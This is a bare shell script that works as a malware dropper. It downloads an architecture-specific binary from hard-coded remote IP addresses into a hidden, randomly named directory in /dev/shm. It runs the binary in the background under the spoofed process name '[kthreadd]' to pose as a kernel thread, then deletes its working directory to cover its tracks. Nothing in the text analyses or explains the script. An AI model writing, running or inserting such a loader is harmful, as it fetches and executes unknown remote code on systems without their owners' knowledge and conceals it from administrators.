a=$(uname -m)
d=/dev/shm/.$(head -c 4 /dev/urandom | od -An -tx1 | tr -d ' ')
mkdir -p "$d" && cd "$d" || cd /tmp
for u in http://203.0.113.6 http://203.0.113.7; do
  curl -s -m 30 -o kthreadd "$u/$a" && break || wget -q -O kthreadd "$u/$a" && break
done
chmod +x kthreadd && (exec -a '[kthreadd]' ./kthreadd >>./.l 2>&1 &)
sleep 1
cd / && rm -rf "$d"
